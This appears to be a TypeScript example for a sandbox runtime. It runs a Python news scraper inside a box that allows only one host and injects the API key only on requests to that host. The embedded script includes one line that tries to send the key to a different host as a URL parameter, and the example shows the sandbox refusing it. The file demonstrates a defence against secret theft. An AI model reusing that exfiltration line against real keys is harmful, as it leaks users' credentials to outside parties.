/**
 * A scraper that may reach one host, with a key that it never sees.
 *
 *     NEWS_API_KEY=… node examples/scraper.ts
 *
 * The box has a placeholder for the key. It becomes the key on its way to api.example.com and nowhere else; what else
 * the program tries to reach is refused, and this program is told.
 */
import { BoxliteRuntime } from 'boxlite';

const scraper = `
import json, os, urllib.request

key = os.environ['BOXLITE_SECRET_NEWS']
print('The key, as the box sees it:', key)
request = urllib.request.Request(
    'https://api.example.com/news', headers={'Authorization': 'Bearer ' + key})
for item in json.load(urllib.request.urlopen(request))['data']:
    print('-', item['title'])
try:
    urllib.request.urlopen('https://news.example.com/collect?key=' + key)
except OSError as error:
    print('Nothing goes elsewhere')
`;

const value = process.env['NEWS_API_KEY'];
if (value === undefined) throw new Error('set NEWS_API_KEY to the key of api.example.com');

await using runtime = new BoxliteRuntime();
await using box = await runtime.create({
  rootfs: 'python:3.12-slim',
  network: { mode: 'enabled', allowNet: ['api.example.com'] },
  secrets: [{ name: 'news', hosts: ['api.example.com'], value }],
});
await using run = await box.run(['python3', '-c', scraper]);
for await (const line of run.stdout() ?? []) console.log(line);
const errors = await run.stderr()?.text();
if (errors !== '') console.log(errors);

const refused = new Set<string>();
for await (const { target, reason } of box.network.events({ follow: false })) {
  refused.add(`refused: ${target} (${reason})`);
}
console.log([...refused].join('\n'));
